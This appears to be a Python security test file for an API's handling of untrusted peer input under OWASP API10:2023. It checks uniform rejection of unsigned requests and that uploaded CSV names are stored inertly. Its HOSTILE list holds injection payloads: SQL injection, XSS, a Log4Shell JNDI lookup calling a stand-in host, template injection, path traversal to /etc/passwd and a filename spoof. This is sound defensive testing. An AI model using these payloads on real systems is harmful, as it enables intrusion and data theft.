"""API10:2023, unsafe consumption of APIs: what peers, lists and providers send is foreign until
proved.

Changed and foreign hops are in tests/exchange/test_hop.py, letters out of order, twice, or not
theirs to send in test_bad_letters.py and test_authority.py; files built to do harm in
tests/interchange/test_pfif_hardening.py and test_xlsx.py; odd sets of keys in
tests/signin/test_access_tokens.py. The conformance suite plays a hostile peer (docs/partners.md).
"""

from pathlib import Path

from rfl.flows.runtime import Runtime
from tests.api.files import CSV, make_csv
from tests.api.support import Desk, done, nothing_stored, open_desk
from tests.audit.societies import make_society
from tests.audit.walks_between import _befriended
from tests.security.test_api9_inventory import _LAST, SIGNED, _served
from tests.support import Clock

HOSTILE = [
    "Robert'); DROP TABLE cases;--",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "%s%n%x",
    "\u202egnp.exe",
]


def test_who_does_not_sign_a_hop_is_told_one_thing_at_every_address(
    sqlite_rt: Runtime, sqlite_template: Path, tmp_path: Path, clock: Clock
) -> None:
    south = make_society("south", sqlite_template, tmp_path, clock)
    with open_desk(sqlite_rt) as desk:
        _befriended(desk, south)
        told = set()
        with nothing_stored(sqlite_rt):
            for method, path in sorted(_served()):
                if not path.startswith(SIGNED) or path == _LAST:
                    continue
                answer = desk.client.request(method, path, content=b'{"a": [' * 200)
                assert answer.status_code == 400, (method, path, answer.text)
                if method != "HEAD":
                    problem = answer.json()
                    told.add((problem["code"], problem["detail"], problem["retry"]))
            odd = desk.client.get("/rfl/v1/%7B{{ %00?a={b}")
            assert odd.status_code == 404, "an odd address is no failure of ours"
        assert len(told) == 1
        assert "bad-envelope" in str(told)
    south.database.dispose()


def test_what_a_list_says_is_kept_as_text_or_refused_and_never_run(sqlite_desk: Desk) -> None:
    officer = sqlite_desk.officer
    made = officer.open_list()
    rows = [(f"V-{number}", text, "female", "1961") for number, text in enumerate(HOSTILE)]
    taken = done(officer.send(made, make_csv(*rows), CSV))
    listed = done(officer.get("/v1/registrations"))["items"]
    found = [done(officer.get(f"/v1/registrations/{one['id']}")) for one in listed]
    kept = [one["registration"]["person"]["names"][0]["text"] for one in found]
    assert len(kept) + taken["refused"] == len(HOSTILE)
    assert set(kept) <= set(HOSTILE)
    assert {*HOSTILE[:6]} <= set(kept)
